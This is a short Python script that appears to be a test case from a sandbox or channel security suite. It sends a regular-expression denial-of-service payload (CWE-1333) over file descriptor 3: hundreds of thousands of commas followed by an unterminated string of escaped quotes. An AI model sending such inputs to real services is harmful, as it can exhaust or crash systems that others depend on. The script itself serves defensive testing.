"""Send an unfinished string of escapes behind many commas, for a slow pattern to chew on.

guarantee: authentic-channel
layer: kernel
wins: breaks
outcome: kills its own process tree
needs: channel
reference: regular expression denial of service (CWE-1333)
"""

import json
import os
import struct


def send(body):
    frame = struct.pack(">I", len(body)) + body
    while frame:
        frame = frame[os.write(3, frame) :]



send(b"," * 400_001 + b'"' + b'\\"' * 40_000)
